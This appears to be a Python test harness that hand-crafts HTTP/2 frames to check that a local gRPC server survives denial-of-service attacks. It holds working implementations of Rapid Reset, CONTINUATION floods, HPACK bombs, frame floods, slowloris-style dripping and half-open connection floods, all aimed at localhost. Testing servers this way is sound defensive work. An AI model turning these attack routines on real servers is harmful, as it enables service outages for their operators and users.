"""A peer that means ill: sockets, TLS and HTTP/2 frames made by hand, so that it can do what no
library would let it."""

import contextlib
import socket
import ssl
import struct
import time

from harness import PATIENCE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 6, 7, 8, 9, 0x42
END_STREAM = ACK = 1
END_HEADERS = 4

HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4

# What a socket says when the server has closed it.
GONE = (ConnectionError, ssl.SSLEOFError, ssl.SSLZeroReturnError, ssl.SSLSyscallError)

LIST_IMAGE = "/gnoi.containerz.Containerz/ListImage"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
EMPTY_MESSAGE = b"\0\0\0\0\0"
# What every server has to take as one DATA frame.
LARGEST_FRAME = 1 << 14


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(**values):
    numbers = {"header_table_size": HEADER_TABLE_SIZE, "initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, payload=b"".join(
        struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def integer(value, bits, pattern=0):
    """An integer as HPACK has it (RFC 7541, 5.1), after a pattern in the first byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([pattern | value])
    encoded = bytearray([pattern | most])
    value -= most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    encoded.append(value)
    return bytes(encoded)


def field(name, value, index=False):
    """A header field with both as they are; `index` has the server remember it."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return (b"\x40" if index else b"\0") + integer(len(name), 7) + name + integer(
        len(value), 7) + value


def request_fields(path=LIST_IMAGE, **more):
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "localhost",
              "te": "trailers", "content-type": "application/grpc"}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(field(name, value) for name, value in fields.items())


def request(stream, path=LIST_IMAGE, body=EMPTY_MESSAGE):
    pieces = [body[start:start + LARGEST_FRAME] for start in range(0, len(body), LARGEST_FRAME)]
    return frame(HEADERS, END_HEADERS, stream, request_fields(path)) + b"".join(
        frame(DATA, 0, stream, piece) for piece in pieces[:-1]) + frame(
        DATA, END_STREAM, stream, pieces[-1])


class Attacker:
    """One connection to the server."""

    def __init__(self, port, source="127.0.0.66"):
        self.socket = socket.create_connection(
            ("127.0.0.1", port), PATIENCE, source_address=(source, 0))
        self.goaway = None
        self.received = b""
        self.frames = []
        self.last_stream = -1

    def encrypt(self, certificates, protocols=("h2",)):
        """Goes through the handshake, as a client whose certificate is good."""
        context = ssl.create_default_context(cafile=certificates.authority.certificate)
        context.load_cert_chain(*certificates.client)
        context.set_alpn_protocols(list(protocols))
        self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        return self

    def greet(self, **values):
        self.send(PREFACE + settings(**values))
        return self

    def acknowledge(self):
        """Has the server's settings, such as its windows, in force."""
        self.send(frame(SETTINGS, ACK))
        return self

    def next_stream(self):
        self.last_stream += 2
        return self.last_stream

    def send(self, data):
        """- Returns: whether the server was still there."""
        try:
            self.socket.sendall(data)
            return True
        except GONE:
            return False

    def read(self, patience):
        """Takes in what the server says; false when it has closed the connection."""
        self.socket.settimeout(patience)
        try:
            chunk = self.socket.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return True
        except (*GONE, ssl.SSLError):
            return False
        finally:
            with contextlib.suppress(OSError):
                self.socket.settimeout(PATIENCE)
        self.received += chunk
        self._parse()
        return chunk != b""

    def _parse(self):
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            self.frames.append((kind, flags, stream, payload))
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            if kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))

    def wait_for(self, kind, patience=PATIENCE):
        """Reads until a frame of the kind has come."""
        deadline = time.monotonic() + patience
        while not any(seen[0] == kind for seen in self.frames):
            assert self.read(0.1), "the server hung up"
            assert time.monotonic() < deadline, f"no frame of kind {kind}"

    def unread(self):
        """Bytes that the server's kernel keeps for us."""
        ours = self.socket.getsockname()[1], self.socket.getpeername()[1]
        with open("/proc/net/tcp") as table:
            for line in list(table)[1:]:
                _, local, remote, _, queues, *_ = line.split()
                theirs = tuple(int(end.rpartition(":")[2], 16) for end in (remote, local))
                if theirs == ours:
                    return int(queues.partition(":")[0], 16)
        return 0

    def fill_answers(self, most=10_000):
        """Asks for what is refused at length, without reading, until no answer gets out, not even
        into the kernel's buffer. What was asked for since is fewer streams than are allowed."""
        stuck = 0
        for _ in range(0, most, 20):
            before = self.unread()
            # Errors name what they refuse.
            self.send(b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, self.next_stream(),
                      request_fields(grpc_encoding="%" * 15000)) for _ in range(20)))
            deadline = time.monotonic() + 1
            while self.unread() <= before and time.monotonic() < deadline:
                time.sleep(0.005)
            stuck = stuck + 1 if self.unread() <= before else 0
            if stuck == 2:
                return
        raise AssertionError("the server finds room for all answers")

    def persist(self, piece, pause=0.0, patience=PATIENCE):
        """Sends pieces, from a function, until the server has hung up, which it has to."""
        deadline = time.monotonic() + patience
        while self.send(piece()) and self.read(pause or 0.001):
            assert time.monotonic() < deadline, "the server puts up with the attack"

    def wait_for_end(self, patience=PATIENCE):
        """Does nothing until the server has hung up, which it has to."""
        deadline = time.monotonic() + patience
        while self.read(0.1):
            assert time.monotonic() < deadline, "the server puts up with the attack"

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


# The attacks. Each is given what makes a connection to the server, and returns when the server
# has closed all that it made.


class Attacks:
    def __init__(self, port, certificates):
        self.port = port
        self.certificates = certificates

    def connect(self, source="127.0.0.66"):
        return Attacker(self.port, source)

    def greeted(self, **values):
        return self.connect().encrypt(self.certificates).greet(**values)

    def rapid_reset(self):
        """Streams opened and broken off at once (CVE-2023-44487)."""
        with self.greeted() as attacker:
            def pairs():
                streams = [attacker.next_stream() for _ in range(50)]
                return b"".join(
                    frame(HEADERS, END_HEADERS, stream, request_fields())
                    + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams)
            attacker.persist(pairs)

    def provoked_reset(self):
        """Streams that the server has to break off (CVE-2025-8671)."""
        with self.greeted() as attacker:
            def pairs():
                streams = [attacker.next_stream() for _ in range(50)]
                return b"".join(
                    frame(HEADERS, END_HEADERS, stream, request_fields())
                    + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
                    for stream in streams)
            attacker.persist(pairs)

    def refused_streams(self):
        """More streams than the server allows, over and over."""
        with self.greeted() as attacker:
            attacker.persist(lambda: b"".join(
                frame(HEADERS, END_HEADERS, attacker.next_stream(), request_fields())
                for _ in range(200)))

    def continuation_flood(self):
        """A header list that never ends (CVE-2024-28182)."""
        with self.greeted() as attacker:
            attacker.send(frame(HEADERS, 0, attacker.next_stream(), request_fields()))
            attacker.persist(lambda: frame(CONTINUATION, 0, 1) * 50)

    def large_continuation_flood(self):
        with self.greeted() as attacker:
            attacker.send(frame(HEADERS, 0, attacker.next_stream(), request_fields()))
            attacker.persist(lambda: frame(CONTINUATION, 0, 1, field("x", "y" * 16000)))

    def flood(self, piece):
        with self.greeted() as attacker:
            attacker.send(frame(HEADERS, END_HEADERS, attacker.next_stream(), request_fields()))
            attacker.persist(lambda: piece * 100)

    def settings_flood(self):
        self.flood(settings(initial_window_size=65535))

    def ping_flood(self):
        self.flood(frame(PING, payload=bytes(8)))

    def priority_flood_beside_dead_headers(self):
        """HEADERS that seem to open streams, but on one that is over, to pay for others."""
        with self.greeted() as attacker:
            dead, living = attacker.next_stream(), attacker.next_stream()
            attacker.send(frame(HEADERS, END_HEADERS, living, request_fields()))
            pieces = 0

            def piece():
                nonlocal pieces
                pieces += 1
                assert pieces < 100, "the server puts up with thousands of them"
                return (frame(HEADERS, END_HEADERS, dead)
                        + frame(PRIORITY, 0, 101, bytes(5)) * 4) * 20
            attacker.persist(piece)

    def ping_answer_flood(self):
        self.flood(frame(PING, ACK, payload=bytes(8)))

    def priority_flood(self):
        self.flood(frame(PRIORITY, 0, 101, bytes(5)))

    def window_update_flood(self):
        self.flood(frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)))

    def empty_data_flood(self):
        self.flood(frame(DATA, 0, 1))

    def unknown_frame_flood(self):
        self.flood(frame(UNKNOWN, 0, 0, b"?"))

    def tiny_data(self, is_over):
        """A request after the other, as large as a window and in frames of a byte, as fast as
        they go, until told that it is over."""
        size = 1_000_000
        prefix = b"\0" + struct.pack(">I", size)
        with self.greeted().acknowledge() as attacker:
            while not is_over():
                stream = attacker.next_stream()
                attacker.send(frame(HEADERS, END_HEADERS, stream, request_fields())
                              + frame(DATA, 0, stream, prefix))
                for _ in range(10):
                    attacker.send(frame(DATA, 0, stream, b"x") * (size // 10))
                attacker.send(frame(DATA, END_STREAM, stream))
                # Without waiting for it: there is always more to read.
                assert attacker.read(0.001), "the server hung up"
                attacker.frames.clear()

    def zero_window(self, streams=100):
        """Many answers asked for, and no room for any of them."""
        with self.greeted(initial_window_size=0) as attacker:
            for _ in range(streams):
                # Its answer has a message; without one it would need no room.
                attacker.send(request(attacker.next_stream(), REFLECTION))
            attacker.wait_for_end()

    def dripping_client_hello(self):
        """TLS that begins, a byte at a time."""
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        client = ssl.create_default_context().wrap_bio(
            incoming, outgoing, server_hostname="localhost")
        with contextlib.suppress(ssl.SSLWantReadError):
            client.do_handshake()
        hello = iter(outgoing.read())
        with self.connect() as attacker:
            attacker.persist(lambda: bytes([next(hello)]), pause=0.05)

    def tls_without_http(self):
        """TLS is up, and the client's half of HTTP/2 never comes."""
        with self.connect().encrypt(self.certificates) as attacker:
            attacker.wait_for_end()

    def dripping_preface(self):
        with self.connect().encrypt(self.certificates) as attacker:
            preface = iter(PREFACE + bytes(1000))
            attacker.persist(lambda: bytes([next(preface)]), pause=0.1)

    def dripping_headers(self):
        """A HEADERS frame, a byte at a time."""
        with self.greeted() as attacker:
            fields = field("x", "y" * 5000)
            piece = iter(frame(HEADERS, END_HEADERS, 1, fields))
            attacker.persist(lambda: bytes([next(piece)]), pause=0.05)

    def headers_without_end(self):
        """A header list whose last frame never comes."""
        with self.greeted() as attacker:
            attacker.send(frame(HEADERS, 0, 1, request_fields()))
            attacker.wait_for_end()

    def giant_table(self):
        """A dynamic table larger than the server allows."""
        with self.greeted(header_table_size=0xFFFFFFFF) as attacker:
            # The table is to be resized (RFC 7541, 6.3) to 1 GiB.
            block = integer(1 << 30, 5, 0x20) + request_fields()
            attacker.send(frame(HEADERS, END_HEADERS, attacker.next_stream(), block))
            attacker.wait_for_end()

    def header_bomb(self):
        """One large field remembered, and then named by a byte each time."""
        with self.greeted(header_table_size=0xFFFFFFFF) as attacker:
            def bombs():
                # 62 is the latest entry of the dynamic table.
                block = request_fields() + field("x", "y" * 4000, index=True) + b"\xbe" * 12_000
                return frame(HEADERS, END_HEADERS | END_STREAM, attacker.next_stream(), block)
            attacker.persist(bombs)

    def promised_messages(self):
        """The beginnings of many of the largest messages, which never end."""
        with self.greeted() as attacker:
            def message():
                stream = attacker.next_stream()
                prefix = b"\0" + struct.pack(">I", 4 << 20)
                return frame(HEADERS, END_HEADERS, stream, request_fields()) + frame(
                    DATA, 0, stream, prefix + bytes(16000))
            attacker.persist(message)

    def half_open(self, count=2000, sources=("127.0.0.66", "127.0.0.67")):
        """Connections on which nothing is ever said."""
        attackers = []
        try:
            for number in range(count):
                # The server may well have refused it by the time it would be used.
                with contextlib.suppress(ConnectionError):
                    attackers.append(self.connect(sources[number % len(sources)]))
            for attacker in attackers:
                attacker.wait_for_end()
        finally:
            for attacker in attackers:
                attacker.close()

    def garbage(self):
        for text in (bytes(1000), b"\xff" * 1000, b"SSH-2.0-x\r\n" * 100,
                     b"\x16\x03\x01\xff\xff" + b"\xaa" * 70000):
            with self.connect() as attacker:
                attacker.send(text)
                attacker.wait_for_end()

    def http_1(self):
        """HTTP/1 without TLS, within TLS by its own name, and under HTTP/2's name."""
        text = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
        with self.connect() as attacker:
            attacker.send(text)
            attacker.wait_for_end()
        with self.connect() as attacker, contextlib.suppress(*GONE, ssl.SSLError):
            attacker.encrypt(self.certificates, ["http/1.1"])
            attacker.send(text)
            attacker.wait_for_end()
        with self.connect().encrypt(self.certificates) as attacker:
            attacker.send(text)
            attacker.wait_for_end()

    def broken_frames(self):
        """Frames that HTTP/2 forbids."""
        for piece in (frame(DATA, 0, 0, b"x"), frame(SETTINGS, payload=b"x"),
                      frame(PING, payload=b"x"), frame(WINDOW_UPDATE, payload=bytes(4)),
                      frame(HEADERS, END_HEADERS, 2, request_fields()),
                      frame(HEADERS, END_HEADERS, 1, b"\xff" * 20),
                      b"\xff\xff\xff" + frame(DATA, 0, 1)[3:], frame(5, 4, 1, bytes(8)),
                      frame(CONTINUATION, 0, 1)):
            with self.greeted() as attacker:
                attacker.send(piece)
                attacker.wait_for_end()
